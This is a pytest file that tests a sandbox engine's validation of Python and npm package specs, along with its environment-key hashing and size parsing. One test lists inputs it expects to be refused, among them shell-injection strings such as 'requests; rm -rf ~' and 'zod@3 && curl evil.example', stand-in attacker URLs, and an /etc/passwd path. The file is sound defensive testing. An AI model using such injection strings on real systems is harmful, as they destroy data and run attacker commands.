"""Package specs: what users may ask for, its normal form, and the environment's key.

Checked before anything runs, so these need no sandbox.
"""

from __future__ import annotations

import hashlib
import json

import pytest

from sandboxes.engine import InvalidSpec, RunSpec
from sandboxes.engine.packages.specs import MAX_PACKAGES, name_of, normalise
from sandboxes.engine.packages.store import FORMAT, environment_key, parse_size, platform_tag


@pytest.mark.parametrize(
    ("spec", "normal"),
    [
        ("requests", "requests"),
        ("Pandas==2.*", "pandas==2.*"),
        ("  numpy>=1.26,<3  ", "numpy<3,>=1.26"),
        ("scikit_learn~=1.5", "scikit-learn~=1.5"),
        ("Pillow[WebP, avif]!=10.0.0", "pillow[avif,webp]!=10.0.0"),
        ("beautifulsoup4 >= 4.12", "beautifulsoup4>=4.12"),
        ("zope.interface", "zope-interface"),
    ],
)
def test_python_specs_are_accepted_in_their_normal_form(spec, normal):
    assert normalise("python", [spec]) == (normal,)


@pytest.mark.parametrize(
    ("spec", "normal"),
    [
        ("zod", "zod"),
        ("zod@3", "zod@3"),
        ("axios@^1.6.0", "axios@^1.6.0"),
        ("@types/node@>=20  <23", "@types/node@>=20 <23"),
        ("lodash@latest", "lodash"),
        ("date-fns@*", "date-fns"),
        ("react@1.x || 2.x", "react@1.x || 2.x"),
        ("typescript@next", "typescript@next"),
        ("JSONStream", "JSONStream"),  # an old name with capitals is still a name
    ],
)
def test_node_specs_are_accepted_in_their_normal_form(spec, normal):
    assert normalise("node", [spec]) == (normal,)


@pytest.mark.parametrize(
    ("language", "spec", "why"),
    [
        ("python", "--index-url=https://evil.example/simple", "installer options"),
        ("python", "-e .", "installer options"),
        ("python", "requests; rm -rf ~", "shell characters"),
        ("python", "requests$(id)", "shell characters"),
        ("python", "`id`", "shell characters"),
        ("python", "https://evil.example/pkg.whl", "URLs"),
        ("python", "pkg @ https://evil.example/pkg.whl", "URLs"),
        ("python", "pkg@1.0", "URLs and direct references"),
        ("python", "git+https://github.com/psf/requests", "URLs and git"),
        ("python", "./local/package", "local paths"),
        ("python", "/etc/passwd", "local paths"),
        ("python", "..\\windows", "local paths"),
        ("python", "numpy>=1 | cat", "only a package name"),
        ("python", "numpy ===", "not a valid Python requirement"),
        ("python", "", "empty"),
        ("python", "x" * 201, "longer than 200"),
        ("node", "--registry=https://evil.example", "installer options"),
        ("node", "zod;id", "shell characters"),
        ("node", "https://evil.example/zod.tgz", "URLs"),
        ("node", "git+ssh://git@github.com/colinhacks/zod.git", "URLs"),
        ("node", "github:colinhacks/zod", "URLs and git"),
        ("node", "colinhacks/zod", "GitHub shortcuts"),
        ("node", "zod@npm:evil", "aliases and protocols"),
        ("node", "file:../zod", "URLs and git"),
        ("node", "../zod", "local paths"),
        ("node", "_private", "not a valid npm package name"),
        ("node", "zod@3 && curl evil.example", "shell characters"),
    ],
)
def test_bad_specs_are_refused_naming_the_spec_and_the_reason(language, spec, why):
    with pytest.raises(InvalidSpec) as refused:
        normalise(language, [spec])
    message = str(refused.value)
    assert why in message
    if spec.strip() and len(spec) <= 200:
        assert repr(spec.strip()) in message


def test_the_same_package_twice_is_one_requirement_in_python():
    assert normalise("python", ["pandas", "Pandas>=2", "pandas[excel]<3"]) == (
        "pandas[excel]<3,>=2",
    )


def test_the_same_npm_package_with_two_ranges_is_refused():
    with pytest.raises(InvalidSpec, match="zod is listed twice"):
        normalise("node", ["zod@3", "zod@4"])
    assert normalise("node", ["zod@3", "zod@3"]) == ("zod@3",)


def test_a_run_may_ask_for_at_most_so_many_packages():
    with pytest.raises(InvalidSpec, match=f"at most {MAX_PACKAGES}"):
        normalise("python", [f"package{n}" for n in range(MAX_PACKAGES + 1)])


def test_a_run_spec_normalises_its_packages_and_refuses_bad_ones():
    spec = RunSpec(
        runtime="python3.13",
        files={"main.py": b""},
        entry="main.py",
        packages=("requests", "Pandas==2.*"),
    )
    assert spec.packages == ("pandas==2.*", "requests")
    with pytest.raises(InvalidSpec, match="shell characters"):
        RunSpec(runtime="node", files={"a.js": b""}, entry="a.js", packages=["zod;id"])
    with pytest.raises(InvalidSpec, match="a list of package specs"):
        RunSpec(runtime="node", files={"a.js": b""}, entry="a.js", packages="zod")


def test_package_names_are_read_back_from_normal_specs():
    assert name_of("python", "pandas[excel]<3,>=2") == "pandas"
    assert name_of("python", "requests") == "requests"
    assert name_of("node", "@types/node@>=20 <23") == "@types/node"
    assert name_of("node", "zod") == "zod"


def test_the_environment_key_depends_on_the_set_not_on_how_it_was_written():
    one = environment_key("python3.13", "3.13.0", normalise("python", ["requests", "Pandas"]))
    two = environment_key("python3.13", "3.13.0", normalise("python", ["pandas ", "requests"]))
    assert one == two
    assert len(one) == 64 and int(one, 16) >= 0


def test_the_environment_key_changes_with_runtime_version_and_packages():
    specs = normalise("python", ["requests"])
    key = environment_key("python3.13", "3.13.0", specs)
    assert environment_key("python3.13", "3.13.1", specs) != key
    assert environment_key("python3.12", "3.13.0", specs) != key
    assert environment_key("python3.13", "3.13.0", normalise("python", ["requests==2.*"])) != key


def test_the_environment_key_is_stable_across_releases():
    """A key is a folder name on disk: the same set must find the same folder tomorrow."""
    key = environment_key("python3.13", "3.13.0", ("requests",))
    assert key == environment_key("python3.13", "3.13.0", ("requests",))
    # A changed key format must be a deliberate FORMAT bump (store.py), never an accident.
    assert key == _expected_key_for_requests()


def _expected_key_for_requests() -> str:
    identity = {
        "format": FORMAT,
        "packages": ["requests"],
        "platform": platform_tag(),
        "runtime": "python3.13",
        "version": "3.13.0",
    }
    return hashlib.sha256(json.dumps(identity, sort_keys=True).encode()).hexdigest()


@pytest.mark.parametrize(
    ("text", "size"),
    [("500M", 500 * 2**20), ("2G", 2 * 2**30), ("1.5GiB", int(1.5 * 2**30)), ("4096", 4096)],
)
def test_sizes_read_as_operators_write_them(text, size):
    assert parse_size(text) == size


def test_a_size_that_is_not_one_is_refused():
    with pytest.raises(ValueError, match="not a size"):
        parse_size("lots")
